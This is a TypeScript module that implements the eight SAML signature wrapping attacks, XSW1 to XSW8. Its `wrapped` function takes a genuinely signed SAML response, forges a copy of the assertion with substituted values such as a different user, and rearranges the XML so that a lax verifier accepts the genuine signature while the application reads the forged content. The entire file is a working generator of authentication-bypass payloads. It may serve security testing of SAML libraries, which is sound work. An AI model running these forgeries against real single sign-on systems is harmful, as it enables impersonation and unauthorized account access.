import { DOMParser, XMLSerializer } from '@xmldom/xmldom'

/** The parts of a genuine response that a wrapping moves around. */
interface Parts {
  root: Element
  assertion: Element
  /** The signature of the response. */
  rootSignature: Element
}

/**
 * The eight forms of signature wrapping of SAML, XSW1 to XSW8. Each gets a genuine response, in which the response and
 * the assertion are signed, and adds a forged assertion so that a careless verifier checks the genuine one and a
 * careless reader reads the forged one.
 */
export const WRAPPINGS: Readonly<Record<string, (parts: Parts, forge: (assertion: Element) => Element) => void>> = {
  // The genuine response is in the signature of the forged one.
  XSW1 ({ root, assertion, rootSignature }, forge) {
    const genuine = withoutSignature(root)
    root.setAttribute('ID', '_forged')
    root.replaceChild(forge(assertion), assertion)
    rootSignature.appendChild(genuine)
  },
  // The genuine response precedes the signature, which stays detached in the forged one.
  XSW2 ({ root, assertion, rootSignature }, forge) {
    const genuine = withoutSignature(root)
    root.setAttribute('ID', '_forged')
    root.replaceChild(forge(assertion), assertion)
    root.insertBefore(genuine, rootSignature)
  },
  // The forged assertion precedes the genuine one.
  XSW3 ({ root, assertion }, forge) {
    root.insertBefore(withoutSignature(forge(assertion)), assertion)
  },
  // The genuine assertion is in the forged one.
  XSW4 ({ root, assertion }, forge) {
    const forged = withoutSignature(forge(assertion))
    root.replaceChild(forged, assertion)
    forged.appendChild(assertion)
  },
  // The forged assertion has the signature of the genuine one, which follows it.
  XSW5 ({ root, assertion }, forge) {
    const genuine = withoutSignature(assertion)
    root.replaceChild(forge(assertion), assertion)
    root.appendChild(genuine)
  },
  // The genuine assertion is in the signature of the forged one.
  XSW6 ({ root, assertion }, forge) {
    const genuine = withoutSignature(assertion)
    const forged = forge(assertion)
    root.replaceChild(forged, assertion)
    signatureOf(forged).appendChild(genuine)
  },
  // The forged assertion has the same ID, in an element of any content.
  XSW7 ({ root, assertion }, forge) {
    const extensions = root.ownerDocument.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
    const forged = withoutSignature(forge(assertion))
    forged.setAttribute('ID', assertion.getAttribute('ID') ?? '')
    extensions.appendChild(forged)
    root.insertBefore(extensions, assertion)
  },
  // The genuine assertion is in an object of the signature of the forged one.
  XSW8 ({ root, assertion }, forge) {
    const genuine = withoutSignature(assertion)
    const forged = forge(assertion)
    const object = root.ownerDocument.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object')
    object.appendChild(genuine)
    root.replaceChild(forged, assertion)
    signatureOf(forged).appendChild(object)
  }
}

/** Applies a wrapping to a genuine response. The forged assertion has the text `to` wherever the genuine has `from`. */
export function wrapped (xml: string, form: string, { from, to }: { from: string, to: string }): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const root = document.documentElement
  const assertion = Array.from(root.childNodes).find((node) => (node as Element).localName === 'Assertion') as Element
  const parts = { root, assertion, rootSignature: signatureOf(root) }
  WRAPPINGS[form]?.(parts, (genuine) => {
    const forged = genuine.cloneNode(true) as Element
    forged.setAttribute('ID', '_forged_assertion')
    for (const element of Array.from(forged.getElementsByTagName('*'))) {
      if (element.textContent === from) element.textContent = to
    }
    return forged
  })
  return new XMLSerializer().serializeToString(document)
}

function signatureOf (element: Element): Element {
  return Array.from(element.childNodes).find((node) => (node as Element).localName === 'Signature') as Element
}

function withoutSignature (element: Element): Element {
  const clone = element.cloneNode(true) as Element
  clone.removeChild(signatureOf(clone))
  return clone
}
